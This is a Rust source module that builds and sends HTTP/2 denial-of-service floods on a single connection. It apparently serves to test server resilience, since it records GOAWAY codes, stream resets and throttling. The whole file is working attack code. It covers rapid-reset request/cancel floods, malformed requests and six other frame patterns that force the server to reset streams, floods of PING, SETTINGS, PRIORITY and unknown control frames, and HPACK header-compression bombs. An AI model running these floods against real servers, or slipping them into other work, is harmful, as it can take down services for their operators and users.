//! Floods of HTTP/2 frames on one connection.

use std::io::ErrorKind;
use std::time::{Duration, Instant};

use crate::frames::{Connection, Frame, Read, code, flag, hpack, kind, setting};

/// What a flood came to.
#[derive(Debug, Default)]
pub struct Outcome {
    /// How often it was done before it could be done no more.
    pub done: usize,
    /// The code of GOAWAY, if it came.
    pub goaway: Option<u32>,
    /// How many streams were reset.
    pub resets: usize,
    /// Whether the far end closed the connection; by FIN or by RST.
    pub closed: Option<ErrorKind>,
    /// From the last thing that was sent to the end of the connection.
    pub took: Duration,
    /// The far end reads no more: nothing can be sent, and nothing comes.
    pub throttled: bool,
}

/// Sends `rounds` times what `round` gives, many rounds in a write, and reads to the end of the connection, or until nothing
/// comes for as long as the connection's patience. A deaf peer reads only when all is sent.
pub fn flood(
    peer: &mut Connection,
    rounds: usize,
    batch: usize,
    deaf: bool,
    round: impl Fn(usize) -> Vec<u8>,
) -> Outcome {
    let mut outcome = Outcome::default();
    // What is sent waits no longer than this: a far end that takes nothing throttles.
    let _ = peer.socket().set_write_timeout(Some(Duration::from_secs(2)));
    peer.patience(Duration::from_millis(1));
    while outcome.done < rounds {
        let bytes: Vec<u8> = (outcome.done..(outcome.done + batch).min(rounds)).flat_map(&round).collect();
        if !peer.write(&bytes) {
            break;
        }
        outcome.done = (outcome.done + batch).min(rounds);
        if !deaf {
            while note(peer.read(), &mut outcome) {}
            if outcome.closed.is_some() {
                break;
            }
        }
    }
    let sent = Instant::now();
    peer.patience(Duration::from_secs(1));
    while note(peer.read(), &mut outcome) {}
    outcome.took = sent.elapsed();
    outcome.throttled = outcome.done < rounds && outcome.closed.is_none();
    outcome
}

/// Whether there may be more.
fn note(read: Read, outcome: &mut Outcome) -> bool {
    match read {
        Read::Frame(frame) => {
            match frame.kind {
                kind::GOAWAY => outcome.goaway = frame.code(),
                kind::RST_STREAM => outcome.resets += 1,
                _ => {}
            }
            true
        }
        Read::Closed(kind) => {
            outcome.closed = Some(kind);
            false
        }
        Read::Silence => false,
    }
}

/// The stream of the n-th request.
#[must_use]
pub fn stream(nth: usize) -> u32 {
    u32::try_from(2 * nth + 1).unwrap_or(u32::MAX) & 0x7fff_ffff
}

/// What a request of an attack says; the fields are those that the surface wants.
#[must_use]
pub fn request(nth: usize, flags: u8, fields: &[(&str, &str)]) -> Frame {
    Frame::headers(stream(nth), flag::END_HEADERS | flags, &hpack::literal(fields))
}

/// R1: begun and given up.
#[must_use]
pub fn rapid_reset(nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    [request(nth, flag::END_STREAM, fields).bytes(), Frame::reset(stream(nth), code::CANCEL).bytes()].concat()
}

/// R1: malformed, so that it is the far end that resets: a field of a connection (RFC 9113, 8.2.2).
#[must_use]
pub fn malformed(nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    request(nth, flag::END_STREAM, &[fields, &[("connection", "keep-alive")]].concat()).bytes()
}

/// R2: the six ways to have the far end reset a stream, by name; each follows a whole request on its stream.
pub const MADE_RESETS: [&str; 6] =
    ["window of 0", "window overflow", "priority length", "priority on itself", "headers after end", "data after end"];

/// R2: a request, and the n-th way.
#[must_use]
pub fn made_reset(way: &str, nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    let id = stream(nth);
    let then = match way {
        "window of 0" => Frame::window(id, 0),
        "window overflow" => Frame::window(id, 0x7fff_ffff),
        "priority length" => Frame::new(kind::PRIORITY, 0, id, [0; 4]),
        "priority on itself" => Frame::priority(id, id, 1),
        "headers after end" => request(nth, flag::END_STREAM, fields),
        _ => Frame::data(id, flag::END_STREAM, *b"more"),
    };
    [request(nth, flag::END_STREAM, fields).bytes(), then.bytes()].concat()
}

/// R5: the kinds of frames that ask for work or for an answer, by name.
pub const CONTROL: [&str; 5] = ["PING", "SETTINGS", "PRIORITY", "WINDOW_UPDATE", "unknown type"];

/// R5: one of them.
#[must_use]
pub fn control(name: &str) -> Vec<u8> {
    match name {
        "PING" => Frame::ping([7; 8]),
        "SETTINGS" => Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]),
        "PRIORITY" => Frame::priority(1, 3, 1),
        // So small that no flood of them overflows the window.
        "WINDOW_UPDATE" => Frame::window(0, 1),
        _ => Frame::new(0xbe, 0, 0, *b"unknown"),
    }
    .bytes()
}

/// R4: the ways to make much of few bytes, by name.
pub const BOMBS: [&str; 4] = ["one large entry", "many small fields", "cookie crumbs", "host beside authority"];

/// R4: the frames of the n-th request of a bomb; the first one fills the table. `most` is the size to which its fields unfold,
/// as RFC 9113, 6.5.2 counts it.
#[must_use]
pub fn bomb(name: &str, nth: usize, most: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    let large = "x".repeat(3900);
    let (field, value) = match name {
        "one large entry" => ("x-large", large.as_str()),
        "many small fields" => ("a", ""),
        "cookie crumbs" => ("cookie", "a=b"),
        _ => ("host", "web"),
    };
    let times = most / (field.len() + value.len() + 32);
    let entry = if nth == 0 { hpack::indexing(field, value) } else { Vec::new() };
    let block = [hpack::literal(fields), entry, hpack::indexed(62).repeat(times)].concat();
    let (first, rest) = block.split_at(block.len().min(16 << 10));
    let end = if rest.is_empty() { flag::END_HEADERS } else { 0 };
    let head = Frame::headers(stream(nth), flag::END_STREAM | end, first).bytes();
    let more = match rest {
        [] => Vec::new(),
        rest => Frame::continuation(stream(nth), flag::END_HEADERS, rest).bytes(),
    };
    [head, more].concat()
}
